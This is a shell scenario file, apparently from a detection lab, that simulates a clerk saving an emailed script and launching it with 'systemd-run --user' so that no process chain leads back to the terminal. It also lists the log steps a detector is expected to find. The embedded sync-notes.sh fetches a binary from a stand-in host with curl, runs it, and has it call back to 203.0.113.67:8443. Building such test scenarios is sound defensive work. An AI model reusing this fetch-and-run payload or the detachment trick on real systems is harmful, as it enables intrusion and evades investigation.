# The service manager starts the script, and nothing leads from the terminal to it.
title="Attached script run by systemd-run --user as a transient unit"
what="The clerk saves sync-notes.sh with Thunderbird and follows the message: systemd-run --user starts it as a transient service of the session's systemd. The terminal's process ends at once; the script is a child of systemd, fetches a file from 203.0.113.66 and starts it."
host=ws3.example.org user=clerk daemons="cron sshd dovecot"

setup() {
  dovecot_config
  printf '#!/bin/sh\ncd "$HOME/.cache"\ncurl -s -o .sn http://drop.example.net/sn/a\nchmod 700 .sn\n./.sn 203.0.113.67 8443\ntouch .sn-done\n' > "$base/out/sync-notes.sh"
  mkdir -p "$base/out/www/sn"; cc -O1 -o "$base/out/www/sn/a" "$lab/lib/stand-ins/beacon.c"
  install -d -o clerk -g clerk /home/clerk/.cache
}
act() {
  display_up
  user_manager clerk
  small_talk 2
  mail_in --from notes@example.com --to clerk@example.org --subject "Notes of the meeting" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/sync-notes.sh:text/x-shellscript"
  wait_log 'from=<notes@example.com>'; wait_mail clerk 1; sleep 1
  thunderbird_save clerk sync-notes.sh Downloads
  sleep 2
  ssh_as clerk <<'L'
systemd-run --user --collect sh ~/Downloads/sync-notes.sh
exit
L
  wait_file /home/clerk/.cache/.sn-done 20
  small_talk 1
  user_managers_down
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.*.*sync-notes.sh' 'the mail client saves the attachment'
  exec_step ask 'systemd-run --user --collect sh' 'the service manager is asked'
  exec_step execute '(dash|sh) (/usr/bin/|/bin/)?sh /home/clerk/Downloads/sync-notes.sh' 'and runs it'
  exec_step second '.sn 203.0.113.67' 'what it fetched is started'
  net_step beacon '203.0.113.67:8443' 'and calls out'
}
